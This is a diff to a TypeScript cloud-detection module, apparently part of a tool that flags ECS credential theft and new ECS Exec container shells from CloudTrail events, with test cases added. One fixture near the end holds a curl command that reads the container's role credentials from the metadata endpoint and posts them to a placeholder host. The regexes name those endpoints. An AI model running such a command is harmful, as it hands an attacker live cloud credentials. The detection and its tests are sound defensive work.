@@ -1,7 +1,7 @@
 import type { ApiEvent } from '../api-event.js';
 import { assumedRole, ctEvent, iamUser, TERRAFORM_AGENT } from '../case-builders.js';
 import type { ApiDetection, DetectionContext } from '../detection.js';
-import { isAwsServiceCall, isIacAgent, list, obj, personVars, str } from './gumshoe-common.js';
+import { type BoundedMap, boundedMap, getEntry, HOUR, isAwsServiceCall, isIacAgent, isLongTermKey, learningOver, list, obj, ownAccount, personVars, setEntry, str, wasHabit } from './gumshoe-common.js';
 
 /**
  * An ECS task made to hand over its role's credentials: a task definition registered, or a task run with a
@@ -14,6 +14,17 @@ import { isAwsServiceCall, isIacAgent, list, obj, personVars, str } from './gums
  * one step lower (a reviewed change, but still a task whose purpose is its credentials).
  */
 const TASK_CREDENTIALS = 'CredentialAccess:ECS/TaskCredentialsExfiltration.Gumshoe';
+/**
+ * ECS Exec: an interactive shell in a running container (ExecuteCommand), with the task role's credentials
+ * and the application's secrets at hand, as Systems Manager sessions are on instances. A principal's first
+ * exec into a cluster is Low (after the learning period, except for an IAM user's or root's long-term key,
+ * the credential that leaks); a cluster it exec'd into on an earlier day is its habit and quiet. A long-term
+ * key exec'ing into several tasks within an hour is Medium (Low when that cluster is its habit): someone
+ * going through the workloads with a leaked key.
+ */
+const EXEC = 'Execution:ECS/ContainerShellOpened.Gumshoe';
+const EXEC_FAN_OUT = 3;
+const EXEC_WINDOW = HOUR;
 
 const CREDENTIAL_ENDPOINT = /AWS_CONTAINER_CREDENTIALS_(RELATIVE|FULL)_URI|169\.254\.170\.2|169\.254\.169\.254\/latest\/meta-data\/iam|fd00:ec2::254/i;
 /** A web address other than the two metadata endpoints: where the credentials are sent. */
@@ -31,7 +42,6 @@ function commandLines(event: ApiEvent): { container: string; line: string }[] {
 }
 
 function onTaskEvent(event: ApiEvent, context: DetectionContext): void {
-  if (event.failed || isAwsServiceCall(event) || event.service !== 'ecs.amazonaws.com') return;
   const stealing = commandLines(event).find((c) => CREDENTIAL_ENDPOINT.test(c.line));
   if (!stealing) return;
   const sends = OUTSIDE_URL.test(stealing.line);
@@ -53,6 +63,62 @@ function onTaskEvent(event: ApiEvent, context: DetectionContext): void {
       role: str(request.taskRoleArn) ?? 'its task role',
     },
   });
+}
+
+interface ExecState {
+  /** principal>account/region/cluster → when it first exec'd there. */
+  habits: BoundedMap<number>;
+  /** principal → tasks it exec'd into within the hour from `start`. */
+  bursts: BoundedMap<{ start: number; tasks: string[] }>;
+}
+
+const execState = (context: DetectionContext) => context.state<ExecState>('ecs-exec', () => ({ habits: boundedMap(), bursts: boundedMap() }));
+
+/** `prod` from `arn:aws:ecs:…:cluster/prod`, a task id from `…:task/prod/0f1e…`. */
+const lastSegment = (value: string | undefined) => value?.replace(/^.*\//, '');
+
+/** An IAM user's or root's access key (AKIA…): long-lived, and what leaks from laptops and repositories. */
+
+/** Distinct tasks the principal exec'd into within the hour, this one included. */
+function tasksInHour(context: DetectionContext, event: ApiEvent, task: string): number {
+  const { bursts } = execState(context);
+  const previous = getEntry(bursts, event.principalKey);
+  const burst = previous && event.time >= previous.start && event.time - previous.start <= EXEC_WINDOW ? previous : { start: event.time, tasks: [] };
+  if (!burst.tasks.includes(task) && burst.tasks.length < 50) burst.tasks = [...burst.tasks, task];
+  setEntry(bursts, event.principalKey, burst, 2000);
+  return burst.tasks.length;
+}
+
+function onExec(event: ApiEvent, context: DetectionContext): void {
+  const request = event.request ?? {};
+  const cluster = lastSegment(str(request.cluster)) ?? 'default';
+  const task = lastSegment(str(request.task) ?? str(event.response?.taskArn)) ?? 'unknown-task';
+  const habitKey = `${event.principalKey}>${ownAccount(event)}/${event.region}/${cluster}`;
+  const first = getEntry(execState(context).habits, habitKey) === undefined;
+  const habit = wasHabit(execState(context).habits, habitKey, event.time);
+  const tasks = tasksInHour(context, event, task);
+  const longTerm = isLongTermKey(event);
+  const fanOut = longTerm && tasks >= EXEC_FAN_OUT;
+  if (!fanOut && !(first && (longTerm || learningOver(context, event)))) return;
+  context.emit({
+    type: EXEC,
+    event,
+    severity: fanOut && !habit ? 5 : 2,
+    aggregateBy: cluster,
+    vars: {
+      ...personVars(event),
+      cluster,
+      scope: fanOut ? `${tasks} tasks of cluster ${cluster} within an hour, with a long-term access key` : `task ${task} of cluster ${cluster}`,
+      container: str(request.container) ?? str(event.response?.containerName) ?? 'its container',
+      command: str(request.command) ?? 'a shell',
+    },
+  });
+}
+
+function onEcsEvent(event: ApiEvent, context: DetectionContext): void {
+  if (event.failed || isAwsServiceCall(event) || event.service !== 'ecs.amazonaws.com') return;
+  if (event.api === 'ExecuteCommand') onExec(event, context);
+  else onTaskEvent(event, context);
 }
 
 const intruder = iamUser('deploy-bot');
@@ -79,10 +145,36 @@ const register = (command: string, identity: Record<string, unknown> = intruder,
     response: { taskDefinition: { taskDefinitionArn: `arn:aws:ecs:us-east-1:111122223333:task-definition/${family}:14`, family, revision: 14, status: 'ACTIVE' } },
   });
 
+/** ExecuteCommand into `task` of `cluster`, as CloudTrail logs it (interactive is the only mode ECS Exec has). */
+const execute = (task: string, time: string, identity: Record<string, unknown>, options: { cluster?: string; errorCode?: string } = {}) => {
+  const cluster = options.cluster ?? 'prod';
+  const taskArn = `arn:aws:ecs:us-east-1:111122223333:task/${cluster}/${task}`;
+  return ctEvent({
+    service: 'ecs',
+    name: 'ExecuteCommand',
+    identity,
+    time,
+    errorCode: options.errorCode,
+    request: { cluster, container: 'web', command: '/bin/sh', interactive: true, task },
+    response: options.errorCode
+      ? null
+      : {
+          clusterArn: `arn:aws:ecs:us-east-1:111122223333:cluster/${cluster}`,
+          containerArn: `arn:aws:ecs:us-east-1:111122223333:container/${cluster}/${task}/5b1c2d3e-4f50-4a61-8b72-9c83d4e5f601`,
+          containerName: 'web',
+          interactive: true,
+          session: { sessionId: `ecs-execute-command-${task.slice(0, 8)}`, streamUrl: 'wss://ssmmessages.us-east-1.amazonaws.com/v1/data-channel/ecs-execute-command', tokenValue: 'HIDDEN_DUE_TO_SECURITY_REASONS' },
+          taskArn,
+        },
+  });
+};
+const tasks = ['0f1e2d3c4b5a49687766554433221100', '1a2b3c4d5e6f40718293a4b5c6d7e8f9', '2b3c4d5e6f7a48192a3b4c5d6e7f8091', '3c4d5e6f7a8b49203b4c5d6e7f809102'];
+const oncall = assumedRole('AWSReservedSSO_OnCall_4c5d6e7f', 'frank@acme.example');
+
 export const ecsTaskCredentials: ApiDetection = {
   id: 'gumshoe-ecs-task-credentials',
   source: 'cloudtrail',
-  apis: ['RegisterTaskDefinition', 'RunTask'],
+  apis: ['RegisterTaskDefinition', 'RunTask', 'ExecuteCommand'],
   types: [
     {
       type: TASK_CREDENTIALS,
@@ -96,9 +188,52 @@ export const ecsTaskCredentials: ApiDetection = {
       remediation:
         'Deregister the task definition revision (or stop the task), find where its output went, and revoke the task role’s sessions (an inline deny on aws:TokenIssueTime). Restrict ecs:RegisterTaskDefinition and ecs:RunTask overrides to the deployment pipeline.',
     },
+    {
+      type: EXEC,
+      dataSource: 'CloudTrailManagement',
+      severity: 2,
+      resourceType: 'AccessKey',
+      mitre: { tactic: 'TA0002 Execution', technique: 'T1609 Container Administration Command' },
+      title: '{principal} opened a shell in {scope}.',
+      description:
+        '{principal} called ExecuteCommand from {ip}, running {command} in container {container} of {scope}. The shell runs as the container’s user, with the task role’s credentials and the application’s secrets within reach.',
+      remediation:
+        'Confirm the session with the principal’s owner (ECS Exec can log each session’s commands to CloudWatch Logs or S3). If unexpected, stop the tasks, rotate the task role’s and the application’s secrets, and restrict ecs:ExecuteCommand (or turn off enableExecuteCommand on the services).',
+    },
   ],
-  onEvent: onTaskEvent,
+  onEvent: onEcsEvent,
   cases: () => [
+    { name: 'an IAM user’s long-term key opens a shell in a production task (Low)', records: [execute(tasks[0]!, '2026-11-02T10:00:00Z', iamUser('bob'))], expect: [EXEC] },
+    {
+      name: 'a long-term key opens shells in three tasks of a cluster within 20 minutes (Medium)',
+      records: tasks.slice(0, 3).map((task, i) => execute(task, `2026-11-02T10:${String(i * 10).padStart(2, '0')}:00Z`, iamUser('svc-reporting'))),
+      expect: [EXEC],
+    },
+    {
+      name: 'an SSO session’s first shell in a cluster, after the learning period',
+      records: [execute(tasks[0]!, '2026-11-20T10:00:00Z', oncall)],
+      settings: { learningDays: 0 },
+      expect: [EXEC],
+    },
+    {
+      name: 'an on-call engineer debugging the cluster they exec into every week; a denied exec',
+      records: [
+        execute(tasks[0]!, '2026-10-26T09:00:00Z', oncall),
+        ...tasks.map((task, i) => execute(task, `2026-11-02T10:0${i}:00Z`, oncall)),
+        execute(tasks[2]!, '2026-11-02T11:05:00Z', iamUser('intern'), { errorCode: 'AccessDeniedException' }),
+      ],
+      expect: [],
+    },
+    { name: 'a developer’s first exec into staging during the learning period', records: [execute(tasks[1]!, '2026-11-02T11:00:00Z', assumedRole('AWSReservedSSO_Developer_1a2b3c4d', 'grace@acme.example'), { cluster: 'staging' })], expect: [] },
+    {
+      name: 'a long-term key that exec’d into the cluster last week sweeps four tasks (Low), and its next day on the same cluster is quiet',
+      records: [
+        execute(tasks[0]!, '2026-10-26T09:00:00Z', iamUser('ops-admin')),
+        ...tasks.map((task, i) => execute(task, `2026-11-02T10:0${i}:00Z`, iamUser('ops-admin'))),
+        execute(tasks[0]!, '2026-11-03T10:00:00Z', iamUser('ops-admin')),
+      ],
+      expect: [EXEC],
+    },
     {
       name: 'Pacu-style backdoored task definition posting its credentials out (High)',
       records: [register('apk add --no-cache curl; curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -X POST -d @- https://collector.example.net/c')],
